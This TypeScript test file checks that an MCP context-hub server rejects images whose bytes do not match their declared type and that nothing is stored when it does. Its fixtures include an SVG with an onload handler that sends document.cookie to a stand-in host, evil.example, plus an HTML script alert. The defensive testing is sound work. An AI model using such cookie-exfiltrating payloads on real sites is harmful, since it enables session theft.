import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import type { Client } from "@modelcontextprotocol/sdk/client/index.js";
import type { AllInOne } from "@context-hub/cli";
import { callOk, callTool, connectMcpClient, fetchEntry, textOf } from "../support/mcp.js";
import { startMemoryHub } from "../support/memory-hub.js";

/** A whole 1×1 PNG, as a client would send one. */
const png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";
const svg = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'//evil.example/\'+document.cookie)"/>',
).toString("base64");
const html = Buffer.from("<!DOCTYPE html><html><script>alert(document.domain)</script></html>").toString("base64");

interface Listing {
  count: number;
}

describe("image bytes must match their declared type, over MCP", () => {
  let hub: AllInOne;
  let client: Client;

  before(async () => {
    hub = await startMemoryHub();
    client = await connectMcpClient(hub.url);
  });

  after(async () => {
    await client.close();
    await hub.close();
  });

  test("an SVG labelled image/png is refused naming its position and both types, and nothing is stored", async () => {
    const result = await callTool(client, "store_context", {
      thread_id: "images",
      source: "user",
      text: "A chart of last week's latency.",
      images: [
        { data: png, mime_type: "image/png" },
        { data: svg, mime_type: "image/png" },
      ],
    });
    assert.equal(result.isError, true);
    assert.match(textOf(result), /the bytes are SVG \(image\/svg\+xml\), not the declared image\/png at images\[1\]/);
    assert.doesNotMatch(textOf(result), /images\[0\]/, "the real PNG beside it is not blamed");
    assert.equal((await callOk<Listing>(client, "search_context", { thread_id: "images" })).count, 0);
  });

  test("HTML labelled image/jpeg is refused in a batch, and a real PNG is stored", async () => {
    const batch = await callTool(client, "store_context_batch", {
      entries: [
        { thread_id: "images", source: "user", text: "first", images: [{ data: png, mime_type: "image/png" }] },
        { thread_id: "images", source: "user", text: "second", images: [{ data: html, mime_type: "image/jpeg" }] },
      ],
    });
    assert.equal(batch.isError, true);
    assert.match(textOf(batch), /the bytes are HTML, not the declared image\/jpeg at entries\[1\]\.images\[0\]/);
    assert.equal(
      (await callOk<Listing>(client, "search_context", { thread_id: "images" })).count,
      0,
      "the batch stored nothing",
    );

    const stored = await callOk<{ context_id: string }>(client, "store_context", {
      thread_id: "images",
      source: "user",
      text: "A real image.",
      images: [{ data: png, mime_type: "image/png" }],
    });
    assert.equal((await callOk<Listing>(client, "search_context", { thread_id: "images" })).count, 1);

    // An update that swaps the image for SVG bytes is refused too, and the stored image stays.
    const update = await callTool(client, "update_context", {
      context_id: stored.context_id,
      images: [{ data: svg, mime_type: "image/gif" }],
    });
    assert.equal(update.isError, true);
    assert.match(textOf(update), /the bytes are SVG \(image\/svg\+xml\), not the declared image\/gif at images\[0\]/);
    const entry = await fetchEntry(client, stored.context_id);
    assert.equal(entry.version, 1);
    const { entries } = await callOk<{ entries: { images: { mime_type: string; data?: string }[] }[] }>(
      client,
      "get_context_by_ids",
      { context_ids: [stored.context_id], include_images: true },
    );
    assert.deepEqual(
      entries[0]?.images.map((image) => [image.mime_type, image.data]),
      [["image/png", png]],
    );
  });
});
